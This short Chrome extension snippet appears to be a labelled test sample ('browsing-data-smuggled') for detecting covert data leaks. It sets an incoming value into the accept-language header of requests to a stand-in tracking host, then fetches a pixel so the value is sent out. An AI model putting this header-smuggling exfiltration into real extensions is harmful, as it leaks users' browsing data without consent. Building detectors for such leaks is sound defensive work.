chrome.runtime.onMessage.addListener(async ({ k }) => {
  // expect: browsing-data-smuggled
  await chrome.declarativeNetRequest.updateSessionRules({ removeRuleIds: [9], addRules: [{ id: 9, condition: { urlFilter: "stats.token-counter.example" }, action: { type: "modifyHeaders", requestHeaders: [{ header: "accept-language", operation: "set", value: k }] } }] });
  await fetch("https://stats.token-counter.example/pixel.gif", { cache: "no-store" });
});
